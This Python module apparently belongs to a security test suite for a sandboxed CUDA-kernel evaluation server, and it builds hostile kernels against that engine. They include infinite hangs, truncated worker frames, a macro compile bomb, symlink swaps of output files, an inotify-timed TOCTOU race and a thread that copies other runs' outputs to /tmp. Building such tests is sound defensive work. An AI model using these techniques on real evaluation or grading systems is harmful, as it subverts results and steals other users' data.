"""Kernels that attack the engine around them rather than the host: hangs, malformed worker frames, compile
bombs, output files swapped for links, races on output files, threads left behind to loot the next case."""

from __future__ import annotations

import secrets as _random
from pathlib import Path

from tests.cudaopt_mcp.jail_attack_kit.payloads import PRELUDE, c_str, kernel
from tests.cudaopt_mcp.jail_attack_kit.tasks import JAILBOX_BASELINE


def hung_kernel() -> str:
    """Says so on stderr, then spins inside the kernel until killed."""
    return kernel('    fprintf(stderr, "JX-HUNG\\n");\n    fflush(stderr);\n    volatile int spin = 1;\n    while (spin) {}',
                  where="kernel")


def frame_then_hang() -> str:
    """Announces a 256-byte answer on the worker's pipe, sends 3 bytes of it, and never finishes."""
    return kernel('    jx_frame((const unsigned char*)"abc", 3, 256);\n    for (;;) sleep(1000);')


def nested_answer(depth: int = 200_000) -> str:
    """A well-framed answer (8-byte little-endian length, then the body) of ``depth`` nested JSON arrays,
    then the worker hangs."""
    return kernel(f"""
    static char deep[{depth}];
    memset(deep, '[', sizeof deep);
    int fd = jx_answer_fd();
    unsigned long long n = sizeof deep;
    write(fd, &n, 8);
    write(fd, deep, sizeof deep);
    for (;;) sleep(1000);
""")


def baseline(nonce: str | None = None) -> str:
    return f"// {nonce or _random.token_hex(6)}\n" + JAILBOX_BASELINE


def macro_explosion(levels: int = 14, cpu_only: bool = False) -> str:
    """4**levels initialisers from a few lines of macros: more memory than the compile limit allows."""
    lines = ["#define JX_A0 1,1,1,1"] + [f"#define JX_A{i} JX_A{i - 1},JX_A{i - 1},JX_A{i - 1},JX_A{i - 1}"
                                      for i in range(1, levels + 1)]
    boom = f"__device__ int jx_boom[] = {{ JX_A{levels} }};" if not cpu_only else \
        f"#ifdef CUDAOPT_CPU_H\nstatic int jx_boom[] = {{ JX_A{levels} }};\n#endif"
    return baseline() + "\n".join(lines) + "\n" + boom + "\n"


SCAN_OUTPUTS = r"""
/* every case folder of every evaluation: /dev/shm/cudaopt-inputs-X/scratch/EVALUATION/CASE (outputs in out/) */
template <class F> static void jx_each_case_dir(F f) {
    void* shm = opendir("/dev/shm");
    while (jx_dirent* a = shm ? readdir(shm) : nullptr) {
        if (strncmp(a->name, "cudaopt-inputs-", 15)) continue;
        char s[256];
        snprintf(s, sizeof s, "/dev/shm/%s/scratch", a->name);
        void* d1 = opendir(s);
        while (jx_dirent* b = d1 ? readdir(d1) : nullptr) {
            if (b->name[0] == '.') continue;
            char s2[512];
            snprintf(s2, sizeof s2, "%s/%s", s, b->name);
            void* d2 = opendir(s2);
            while (jx_dirent* c = d2 ? readdir(d2) : nullptr) {
                if (c->name[0] == '.') continue;
                char s3[800];
                snprintf(s3, sizeof s3, "%s/%s", s2, c->name);
                f(s3);
            }
            if (d2) closedir(d2);
        }
        if (d1) closedir(d1);
    }
    if (shm) closedir(shm);
}
"""


def swap_outputs_for_links(target: Path) -> tuple[str, str]:
    """(extra, payload): a thread that replaces each output file, as soon as the worker has written it, by
    a symbolic link to ``target``, and leaves links to it and to / all over the scratch folder."""
    extra = SCAN_OUTPUTS + f"""
static void* jx_swapper(void*) {{
    for (int k = 0; k < 20000; ++k) {{  /* about 2 s */
        jx_each_case_dir([](const char* dir) {{
            char f[900], l[910], extra[910];
            snprintf(f, sizeof f, "%s/out/out.npy", dir);
            snprintf(l, sizeof l, "%s/out/.jx-link", dir);
            snprintf(extra, sizeof extra, "%s/out/secret.npy", dir);
            symlink({c_str(str(target))}, extra);
            char dest[16];
            int fd = open(f, 0);
            if (fd >= 0 && readlink(f, dest, sizeof dest) < 0) {{  /* a regular file: swap it */
                symlink({c_str(str(target))}, l);
                rename(l, f);
            }}
            if (fd >= 0) close(fd);
        }});
        usleep(100);
    }}
    return nullptr;
}}
"""
    payload = ("    unsigned long th;\n    JX_PRINTF(\"thread %d\\n\", pthread_create(&th, nullptr, jx_swapper, nullptr));\n"
               f"    symlink({c_str(str(target))}, \"/tmp/jx-link\");\n    symlink(\"/\", \"/tmp/jx-root\");\n"
               "    jx_file(\"/tmp/jx-link\");\n    jx_ls(\"/tmp/jx-root/\");")
    return extra, payload


TWIN_KERNEL = r"""
extern "C" __global__ void jailtwin(const float* in, float* a, float* b, int n)
{
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i >= n) return;
#ifdef CUDAOPT_CPU_H
    if (i == 0) jx_arm();
#endif
    a[i] = 2.0f * in[i];
    b[i] = 4.0f * in[i];
}
"""


def twin_toctou(target: Path) -> str:
    """The jailtwin kernel, correct, plus a thread that waits for the server to *keep* the case's outputs
    (its second read of a.npy: the first was the comparison) and then swaps b.npy, already checked, for a
    symbolic link to ``target``: the server's check of b and its move of b are apart by the copy of a."""
    extra = SCAN_OUTPUTS + f"""
static int jx_ifd = -1;
static char jx_dirs[64][900];
static int jx_wds[64], jx_states[64], jx_ndirs;
static void jx_arm() {{  /* in the launch, before the worker writes the outputs: watch each case's out/ */
    jx_each_case_dir([](const char* dir) {{
        for (int k = 0; k < jx_ndirs; ++k) if (!strncmp(jx_dirs[k], dir, strlen(dir))) return;
        if (jx_ndirs >= 64) return;
        snprintf(jx_dirs[jx_ndirs], sizeof jx_dirs[0], "%s/out", dir);
        mkdir(jx_dirs[jx_ndirs], 0755);
        jx_wds[jx_ndirs] = inotify_add_watch(jx_ifd, jx_dirs[jx_ndirs], 0x20 | 0x10);  /* IN_OPEN | IN_CLOSE_NOWRITE */
        jx_states[jx_ndirs] = 0;
        ++jx_ndirs;
    }});
}}
static void* jx_watch(void*) {{
    char buf[8192];
    for (;;) {{
        long n = read(jx_ifd, buf, sizeof buf);
        for (long off = 0; n > 0 && off < n;) {{
            struct ev {{ int wd; unsigned mask, cookie, len; }};
            const ev* e = (const ev*)(buf + off);
            const char* name = buf + off + 16;
            off += 16 + e->len;
            if (!e->len || strcmp(name, "a.npy")) continue;
            for (int k = 0; k < jx_ndirs; ++k) {{
                if (jx_wds[k] != e->wd) continue;
                if (e->mask & 0x10) {{ if (jx_states[k] == 0) jx_states[k] = 1; }}
                else if ((e->mask & 0x20) && jx_states[k] == 1) {{
                    char l[920], f[920];
                    snprintf(l, sizeof l, "%s/.jx", jx_dirs[k]);
                    snprintf(f, sizeof f, "%s/b.npy", jx_dirs[k]);
                    symlink({c_str(str(target))}, l);
                    rename(l, f);
                    jx_states[k] = 2;
                }}
            }}
        }}
    }}
    return nullptr;
}}
static int jx_started = []() {{
    jx_ifd = inotify_init1(0);
    unsigned long th;
    pthread_create(&th, nullptr, jx_watch, nullptr);
    return 0;
}}();
"""
    return (f"// twin {_random.token_hex(6)}\n#define JX_CAP 4096\n" + PRELUDE + "#ifdef CUDAOPT_CPU_H\n" + extra
            + "static void jx_payload() {}\n#endif\n" + TWIN_KERNEL)


def loot_thread(seconds: int = 60) -> tuple[str, str]:
    """(extra, payload): a thread that stays in the worker and copies every output file any later
    evaluation writes (another run's too) to /tmp/jx-loot, the jail's own /tmp, which outlives the candidate."""
    extra = SCAN_OUTPUTS + f"""
static char jx_own[800];
static void* jx_looter(void*) {{
    for (int k = 0; k < {seconds} * 500; ++k) {{
        jx_each_case_dir([](const char* dir) {{
            if (jx_own[0] && !strncmp(dir, jx_own, strlen(jx_own))) return;
            char f[900];
            snprintf(f, sizeof f, "%s/out/out.npy", dir);
            int fd = open(f, 0);
            if (fd < 0) return;
            if (!jx_own[0]) {{ snprintf(jx_own, sizeof jx_own, "%s", dir); close(fd); return; }}  /* our own case */
            static char data[1 << 16];
            long n = read(fd, data, sizeof data);
            close(fd);
            int out = open("/tmp/jx-loot", 01 | 0100 | 01000, 0644);
            if (out >= 0 && n > 0) write(out, data, n);
            if (out >= 0) close(out);
        }});
        usleep(2000);
    }}
    return nullptr;
}}
"""
    payload = "    unsigned long th;\n    JX_PRINTF(\"looter %d\\n\", pthread_create(&th, nullptr, jx_looter, nullptr));"
    return extra, payload
